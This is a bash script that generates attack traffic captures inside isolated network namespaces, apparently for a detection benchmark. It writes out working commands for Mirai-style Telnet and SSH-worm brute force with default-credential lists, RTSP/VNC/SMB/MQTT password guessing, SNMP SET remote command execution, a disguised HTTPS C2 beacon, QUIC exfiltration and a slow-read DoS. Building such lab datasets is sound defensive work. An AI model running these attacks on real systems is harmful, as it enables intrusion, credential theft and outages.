#!/usr/bin/env bash
# An EIGHTH fresh attack set ("f8-*"): techniques none of the earlier sets used, made with real tools (and one small
# bounded Python program for the RTSP and VNC login prompts no packaged server gives without a camera or a desktop)
# between network namespaces. Password guessing the way IoT worms spread: a Mirai-style Telnet sweep and brute force
# of the LAN on 23 / 2323 (nmap, hydra), an SSH worm that probes random internet addresses on 22 and guesses
# passwords on those that answer (nmap, hydra, against openssh), RTSP credential guessing on the LAN's cameras
# (hydra rtsp), VNC password guessing on neighbours (hydra vnc), an SMB password spray (smbclient, against smbd),
# MQTT broker brute force (ncrack, against mosquitto with a password file); an intruder's remote code execution by
# SNMP SET of a NET-SNMP-EXTEND-MIB command (snmpset / snmpwalk against snmpd with a write community); a
# Cobalt-Strike-style HTTPS beacon with jitter kept in ONE keep-alive TLS connection (openssl s_client); exfiltration
# over QUIC / HTTP/3 on UDP 443 (ngtcp2's example client and server); and a slow-read DoS (slowhttptest -X).
# The lab is fresh-lab.sh's (attacker = the device 10.66.0.10 02:66:00:00:00:10, victim 10.66.0.20
# 02:66:00:00:00:20, dummies .31-.34, a routed "internet" 10.128.0.0/9 behind the victim), with its own namespaces
# (prefix f8-) and veth names (f8p-*). Internet hosts are /32 addresses on the victim's lo (10.128.94.x and the
# three sshd targets 10.128.33.14, 10.128.140.2, 10.128.212.77); every other 10.128/9 address is on no host.
# Each id's servers are started before its capture and stopped after. tcpdump on the device's veth;
# OUT/attacks/<id>.pcap and OUT/attacks/index.jsonl (gen-attacks.sh's format). Every tool runs under `timeout`,
# every loop is bounded; namespaces are removed on exit.
#
# Tools (Debian): nmap hydra ncrack openssh-server samba smbclient snmpd snmp mosquitto (mosquitto_passwd) openssl
#   ngtcp2-client ngtcp2-server slowhttptest busybox tcpdump wireshark-common bc
# Helpers: fresh8/lan-auth.py (RTSP and VNC login prompts); ../victim-telnetd.py, ../victim-httpd.py.
#
# Usage: bash bench/behavior/fresh8/gen-fresh8.sh [--out DIR (default /work/behavior-bench-fresh8)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh8
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f8 GEN=gen-fresh8
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

# ---------- network ----------
lab_network
sleep 1

# ---------- "internet" hosts ----------
# .94.5 MQTT broker (1883), .94.7 beacon C2 (443), .94.8 web server (80), .94.9 QUIC endpoint (udp 443);
# sshd targets 10.128.33.14, 10.128.140.2, 10.128.212.77
SSH_TARGETS="10.128.33.14 10.128.140.2 10.128.212.77"
internet_hosts 10.128.94.5 10.128.94.7 10.128.94.8 10.128.94.9 $SSH_TARGETS
lab_tls_cert "cdn-assets.example"
export NET VIC_IP ATT_IP W PY HERE LAB


# Mirai's default-credential list (a part), and a short list for the other guessers
printf '%s\n' root admin support user > "$W/users-mirai"
printf '%s\n' xc3511 vizxv admin 888888 xmhdipc default juantech 123456 54321 12345 > "$W/pw-mirai"
printf '%s\n' root admin pi ubnt > "$W/users-ssh"
printf '%s\n' 123456 password admin raspberry ubnt 12345678 toor qwerty > "$W/pw-ssh"
printf '%s\n' admin root > "$W/users-cam"
printf '%s\n' 12345 123456 admin 888888 666666 password 1234 pass 9999 camera 4321 admin123 > "$W/pw-cam"
printf '%s\n' 123456 password 12345678 admin vnc 1234 111111 secret qwerty abc123 letmein passw0rd 000000 \
  654321 1q2w3e4r trustno1 > "$W/pw-vnc"

# ---------- 1. Mirai-style Telnet spreading on the LAN: a SYN sweep of 23 / 2323, then hydra on those open ----------
if want f8-telnet-brute-lan; then
  TN=()
  for h in vic:20:23 d31:31:23 d32:32:2323 d34:34:23; do
    n=${h%%:*} rest=${h#*:} o=${rest%%:*} p=${rest#*:}
    srv "$n" 200 $PY "$HERE/../victim-telnetd.py" "$NET.$o:$p"
    TN+=("$BG")
  done
  sleep 2
  cat > "$W/telnet.sh" <<'EOS'
timeout 40 nmap -n -Pn -sS -p 23,2323 --open --max-retries 1 -T4 -oG "$W/telnet-open" "$NET.1-254" >/dev/null
for p in 23 2323; do
  awk -v p="$p" '/Ports:/ && $0 ~ (" " p "/open") {print $2}' "$W/telnet-open" > "$W/telnet-$p"
  [ -s "$W/telnet-$p" ] || continue
  timeout 60 hydra -L "$W/users-mirai" -P "$W/pw-mirai" -M "$W/telnet-$p" -s "$p" -t 3 -T 12 -w 5 -I -q telnet || true
done
EOS
  cap f8-telnet-brute-lan lateral nmap+hydra-telnet-lan attacker lan false 130 bash "$W/telnet.sh"
  for p in "${TN[@]}"; do stopbg "$p"; done
fi

# ---------- 2. an SSH worm: SYNs to 250 random internet addresses on 22, hydra on the 3 that answer ----------
if want f8-ssh-worm-wan; then
  mkdir -p /run/sshd
  [ -f "$W/ssh_host_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/ssh_host_ed25519"
  {
    for a in $SSH_TARGETS; do echo "ListenAddress $a:22"; done
    cat <<EOF
HostKey $W/ssh_host_ed25519
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
# no account may log in: every guess fails (the guessers' traffic is the point, not a shell)
AllowUsers f8-nobody
MaxStartups 40:30:100
PidFile $W/sshd-worm.pid
EOF
  } > "$W/sshd_config"
  srv vic 200 /usr/sbin/sshd -D -e -f "$W/sshd_config"
  S_PID=$BG
  sleep 1
  $PY - "$W/ssh-probe" $SSH_TARGETS <<'PYEOF'
import random, sys
rnd = random.Random(88)
addrs = {f"10.{rnd.randint(128, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}" for _ in range(260)}
addrs = sorted(addrs - set(sys.argv[2:]))[:247] + sys.argv[2:]
rnd.shuffle(addrs)
open(sys.argv[1], "w").write("\n".join(addrs) + "\n")
PYEOF
  cat > "$W/ssh-worm.sh" <<'EOS'
timeout 40 nmap -n -Pn -sS -p 22 --open --max-retries 0 --min-rate 40 --max-rate 60 -iL "$W/ssh-probe" \
  -oG "$W/ssh-open" >/dev/null
awk '/Ports:/ && / 22\/open/ {print $2}' "$W/ssh-open" > "$W/ssh-hosts"
[ -s "$W/ssh-hosts" ] && timeout 75 hydra -L "$W/users-ssh" -P "$W/pw-ssh" -M "$W/ssh-hosts" -t 2 -T 6 -w 8 -I -q ssh || true
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.128.33.14 cap f8-ssh-worm-wan credential nmap+hydra-ssh-random-wan attacker wan false 130 \
    bash "$W/ssh-worm.sh"
  stopbg "$S_PID"
fi

# ---------- 3. RTSP credential guessing on the LAN's cameras (hydra rtsp), after a probe of 554 / 8554 ----------
if want f8-rtsp-brute-lan; then
  RT=()
  for o in 31 32; do
    srv "d$o" 150 $PY "$HERE/lan-auth.py" rtsp "$NET.$o" 554 140
    RT+=("$BG")
  done
  sleep 1
  cat > "$W/rtsp.sh" <<'EOS'
timeout 20 nmap -n -Pn -sS -p 554,8554 --open -oG "$W/rtsp-open" "$NET.20,31-34" >/dev/null
awk '/Ports:/ && / 554\/open/ {print $2}' "$W/rtsp-open" > "$W/rtsp-hosts"
[ -s "$W/rtsp-hosts" ] && timeout 80 hydra -L "$W/users-cam" -P "$W/pw-cam" -M "$W/rtsp-hosts" -t 2 -T 4 -w 5 -I -q rtsp || true
EOS
  cap f8-rtsp-brute-lan lateral nmap+hydra-rtsp-lan attacker lan false 110 bash "$W/rtsp.sh"
  for p in "${RT[@]}"; do stopbg "$p"; done
fi

# ---------- 4. VNC password guessing on two neighbours (hydra vnc, 16 passwords each) ----------
if want f8-vnc-brute-lan; then
  VN=()
  for o in 32 33; do
    srv "d$o" 150 $PY "$HERE/lan-auth.py" vnc "$NET.$o" 5900 140
    VN+=("$BG")
  done
  sleep 1
  printf '%s\n' "$NET.32" "$NET.33" > "$W/vnc-hosts"
  cap f8-vnc-brute-lan lateral hydra-vnc-lan attacker lan false 110 \
    hydra -P "$W/pw-vnc" -M "$W/vnc-hosts" -t 1 -T 2 -W 1 -w 5 -I -q vnc
  for p in "${VN[@]}"; do stopbg "$p"; done
fi

# ---------- 5. an SMB password spray of two neighbours (smbclient, SMB3, 3 users x 6 passwords each) ----------
if want f8-smb-spray-lan; then
  SB=()
  mkdir -p "$W/share"
  for h in vic:20 d31:31; do
    n=${h%%:*} o=${h#*:} d="$W/smb-${h%%:*}"
    mkdir -p "$d"/{lock,state,cache,private,pid,ncalrpc}
    cat > "$d/smb.conf" <<EOF
[global]
  workgroup = OFFICE
  server role = standalone server
  interfaces = $NET.$o/24
  bind interfaces only = yes
  smb ports = 445
  disable netbios = yes
  lock directory = $d/lock
  state directory = $d/state
  cache directory = $d/cache
  private dir = $d/private
  pid directory = $d/pid
  ncalrpc dir = $d/ncalrpc
  log file = $d/log.%m
  load printers = no
  printing = bsd
  printcap name = /dev/null
[backup]
  path = $W/share
  read only = yes
EOF
    srv "$n" 150 setsid /usr/sbin/smbd --foreground --no-process-group --configfile="$d/smb.conf"
    SB+=("$BG")
  done
  sleep 3
  cat > "$W/smb.sh" <<'EOS'
for h in 20 31; do
  for u in administrator admin backup; do
    for p in 123456 Password1 admin Welcome1 backup 'Summer2026!'; do
      timeout 6 smbclient -L "//$NET.$h" -U "OFFICE\\$u%$p" -m SMB3 -g >/dev/null 2>&1 || true
      sleep 0.3
    done
  done
done
EOS
  cap f8-smb-spray-lan lateral smbclient-smb3-password-spray attacker lan false 100 bash "$W/smb.sh"
  for p in "${SB[@]}"; do stopbg "$p"; done
fi

# ---------- 6. remote code execution through SNMP SET: a NET-SNMP-EXTEND-MIB command created, run, removed ----------
if want f8-snmp-extend-rce; then
  mkdir -p "$W/snmp"
  cat > "$W/snmp/snmpd.conf" <<EOF
agentAddress udp:$NET.33:161
rocommunity public default -V systemonly
rwcommunity private default
view systemonly included .1.3.6.1.2.1.1
sysLocation plant-floor-3
sysContact ot-admin@corp.example
EOF
  srv d33 150 /usr/sbin/snmpd -f -Lo -C -c "$W/snmp/snmpd.conf" -p "$W/snmp/snmpd.pid"
  SN_PID=$BG
  sleep 2
  cat > "$W/snmp-rce.sh" <<'EOS'
H=$NET.33
# nsExtendConfigTable (.1.3.6.1.4.1.8072.1.3.2.2.1) and nsExtendOutput1Table (.2.3.1), row "upd" = 3.117.112.100
C=.1.3.6.1.4.1.8072.1.3.2.2.1 O=.1.3.6.1.4.1.8072.1.3.2.3.1 I=3.117.112.100
S="-v2c -c private -t 3 -r 1"
timeout 8 snmpget $S "$H" .1.3.6.1.2.1.1.1.0 .1.3.6.1.2.1.1.5.0 || true
sleep 2
timeout 8 snmpset $S "$H" .1.3.6.1.2.1.1.4.0 s "ot-admin@corp.example" || true
sleep 3
for cmd in "-c id" "-c 'uname -a; cat /etc/os-release | head -3'" "-c 'ip -4 addr; cat /proc/net/arp'"; do
  timeout 8 snmpset $S "$H" "$C.21.$I" i 4 "$C.2.$I" s /bin/sh "$C.3.$I" s "$cmd" || true
  sleep 1
  timeout 15 snmpwalk $S "$H" "$O" || true
  sleep 1
  timeout 8 snmpset $S "$H" "$C.21.$I" i 6 || true
  sleep $((4 + RANDOM % 4))
done
EOS
  cap f8-snmp-extend-rce lateral net-snmp-snmpset-extend attacker lan false 80 bash "$W/snmp-rce.sh"
  stopbg "$SN_PID"
fi

# ---------- 7. MQTT broker brute force (ncrack mqtt) against a broker on the internet with a password file ----------
if want f8-mqtt-brute; then
  rm -f "$W/mqtt.passwd"
  mosquitto_passwd -c -b "$W/mqtt.passwd" telemetry 'k7#Qv9!zr2' >/dev/null
  chmod 644 "$W/mqtt.passwd"
  cat > "$W/mosquitto.conf" <<EOF
user root
persistence false
log_dest stderr
listener 1883 10.128.94.5
allow_anonymous false
password_file $W/mqtt.passwd
EOF
  srv vic 150 mosquitto -c "$W/mosquitto.conf"
  MQ_PID=$BG
  sleep 1
  printf '%s\n' admin mqtt user guest device iot > "$W/users-mqtt"
  printf '%s\n' admin mqtt password 123456 public guest iot 12345678 changeme hivemq broker mosquitto \
    secret test 1234 > "$W/pw-mqtt"
  CAP_VIC_IP=10.128.94.5 cap f8-mqtt-brute credential ncrack-mqtt attacker public false 100 \
    ncrack -U "$W/users-mqtt" -P "$W/pw-mqtt" -g CL=4,to=85s mqtt://10.128.94.5:1883
  stopbg "$MQ_PID"
fi

# ---------- 8. a Cobalt-Strike-style beacon: one keep-alive TLS connection, a GET every 6-14 s, results POSTed ----------
if want f8-https-keepalive-beacon; then
  srv vic 150 $PY "$HERE/../victim-httpd.py" 10.128.94.7 443 "$W/tls.crt" "$W/tls.key"
  H_PID=$BG
  sleep 2
  cat > "$W/beacon-in.sh" <<'EOS'
for i in $(seq 1 11); do
  md=$(head -c 48 /dev/urandom | base64 -w0)
  printf 'GET /jquery-3.3.1.min.js HTTP/1.1\r\nHost: code.cdn-assets.example\r\nAccept: text/html,*/*\r\nCookie: __cfduid=%s\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko\r\nConnection: keep-alive\r\n\r\n' "$md"
  if [ "$i" = 4 ] || [ "$i" = 8 ]; then
    body=$(head -c 900 /dev/urandom | base64 -w0)
    printf 'POST /jquery-3.3.2.min.js?__cfduid=%s HTTP/1.1\r\nHost: code.cdn-assets.example\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\nConnection: keep-alive\r\n\r\n%s' "${md:0:16}" "${#body}" "$body"
  fi
  sleep "$((6 + RANDOM % 9)).$((RANDOM % 10))"
done
EOS
  CAP_VIC_IP=10.128.94.7 cap f8-https-keepalive-beacon c2 openssl-s_client-keepalive-beacon attacker public false 125 \
    bash -c "bash '$W/beacon-in.sh' | openssl s_client -quiet -connect 10.128.94.7:443 -servername code.cdn-assets.example >/dev/null 2>&1"
  stopbg "$H_PID"
fi

# ---------- 9. exfiltration over QUIC / HTTP/3 on udp 443: 3 connections 15-25 s apart, 4 streams x 200 kB each ----------
if want f8-quic-exfil; then
  mkdir -p "$W/h3docs"
  echo '{"ok":1}' > "$W/h3docs/index.html"
  srv vic 150 gtlsserver -q -d "$W/h3docs" 10.128.94.9 443 "$W/tls.key" "$W/tls.crt"
  Q_PID=$BG
  sleep 1
  head -c 150000 /dev/urandom | base64 -w0 > "$W/quic-chunk"
  cat > "$W/quic.sh" <<'EOS'
for i in 1 2 3; do
  timeout 30 gtlsclient -q --exit-on-all-streams-close -n 4 -d "$W/quic-chunk" 10.128.94.9 443 \
    "https://10.128.94.9/upload/part$i" >/dev/null 2>&1 || true
  [ "$i" = 3 ] || sleep $((15 + RANDOM % 11))
done
EOS
  CAP_VIC_IP=10.128.94.9 cap f8-quic-exfil exfil ngtcp2-http3-upload attacker public false 110 bash "$W/quic.sh"
  stopbg "$Q_PID"
fi

# ---------- 10. a slow-read DoS of a web server on the internet (slowhttptest -X: tiny windows, slow reads) ----------
if want f8-slowread-dos; then
  mkdir -p "$W/www"
  head -c 1500000 /dev/urandom > "$W/www/firmware.bin"
  srv vic 150 busybox httpd -f -p 10.128.94.8:80 -h "$W/www"
  B_PID=$BG
  sleep 1
  CAP_VIC_IP=10.128.94.8 cap f8-slowread-dos dos slowhttptest-slow-read attacker public false 100 \
    slowhttptest -X -c 60 -r 15 -w 32 -y 64 -n 4 -z 32 -k 2 -l 60 -p 5 -u http://10.128.94.8/firmware.bin
  stopbg "$B_PID"
fi

# ---------- index ----------
lab_index
